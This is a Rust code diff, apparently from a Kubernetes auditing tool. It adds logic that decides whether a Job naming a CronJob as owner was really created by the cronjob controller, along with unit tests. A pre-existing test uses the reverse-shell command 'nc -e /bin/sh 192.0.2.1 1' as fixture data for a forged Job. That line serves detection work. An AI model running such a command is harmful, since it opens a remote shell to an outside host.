@@ -4,6 +4,7 @@ use std::collections::HashMap;
 
 use super::id::Id;
 use crate::rollup::FindingSet;
+use crate::workload::OwnerClaim;
 
 /// How many earlier templates of a CronJob are remembered, as far as their findings differ.
 const MAX_EARLIER: usize = 4;
@@ -62,6 +63,48 @@ pub enum Owned {
     Forged,
 }
 
+/// Who is proven to have created a Job.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum Maker {
+    /// Nobody knows, or it is not said who makes what in this cluster.
+    Unknown,
+    /// The controller that runs CronJobs: the claim on one is true.
+    Controller,
+    /// Somebody else.
+    Other,
+}
+
+impl Maker {
+    /// The maker with this user name.
+    pub fn of(user: &str) -> Self {
+        match user {
+            // The second where kube-controller-manager has one identity for all of its controllers.
+            "system:serviceaccount:kube-system:cronjob-controller" | "system:kube-controller-manager" => {
+                Self::Controller
+            }
+            // Distributions have other names for it. Of those reserved for the system none is taken for a stranger's.
+            _ if user.starts_with("system:serviceaccount:kube-system:") => Self::Unknown,
+            _ if user.starts_with("system:") && !user.starts_with("system:serviceaccount:") => Self::Unknown,
+            _ => Self::Other,
+        }
+    }
+
+    /// Whether a Job that names a CronJob as its owner was not made by it. One that says that somebody had it run by
+    /// hand, as `kubectl create job --from` does, does not claim more than that.
+    pub fn disproves(self, claim: &OwnerClaim) -> bool {
+        self == Self::Other && !claim.by_hand
+    }
+
+    /// What a Job is, in the light of who made it. The controller makes no Job but of a CronJob's template, if perhaps
+    /// of one that nobody remembers.
+    pub fn weigh(self, owned: Option<Owned>) -> Option<Owned> {
+        match owned {
+            None | Some(Owned::Forged) if self == Self::Controller => Some(Owned::Differs),
+            owned => owned,
+        }
+    }
+}
+
 /// The CronJobs that are gone.
 #[derive(Debug, Default)]
 pub struct Tombstones(HashMap<Id, (Cron, i64)>);
@@ -111,6 +154,29 @@ mod tests {
         let cron = Cron::new(findings("true"), 300);
         assert_eq!(cron.judge(&findings("nc -e /bin/sh 192.0.2.1 1"), 301), Owned::Forged);
         assert_eq!(cron.judge(&findings("nc -e /bin/sh 192.0.2.1 1"), 300), Owned::Differs);
+    }
+
+    #[test]
+    fn who_made_it_proves_or_disproves_the_claim() {
+        let controller = "system:serviceaccount:kube-system:cronjob-controller";
+        assert_eq!(Maker::of(controller), Maker::Controller);
+        assert_eq!(Maker::of(&format!("{controller}s")), Maker::Unknown);
+        for user in
+            ["ann", "system:serviceaccount:web:cronjob-controller", "system:serviceaccount:kube-systems:x"]
+        {
+            assert_eq!(Maker::of(user), Maker::Other, "{user}");
+        }
+        assert_eq!(Maker::of("system:some-distribution"), Maker::Unknown);
+
+        let claim = |by_hand| OwnerClaim { name: "c".into(), uid: "1".into(), by_hand, disproved: false };
+        assert!(Maker::Other.disproves(&claim(false)) && !Maker::Other.disproves(&claim(true)));
+        assert!(!Maker::Unknown.disproves(&claim(false)) && !Maker::Controller.disproves(&claim(false)));
+
+        assert_eq!(Maker::Controller.weigh(Some(Owned::Forged)), Some(Owned::Differs));
+        assert_eq!(Maker::Controller.weigh(None), Some(Owned::Differs));
+        assert_eq!(Maker::Controller.weigh(Some(Owned::Covered)), Some(Owned::Covered));
+        assert_eq!(Maker::Unknown.weigh(Some(Owned::Forged)), Some(Owned::Forged));
+        assert_eq!(Maker::Other.weigh(None), None);
     }
 
     #[test]
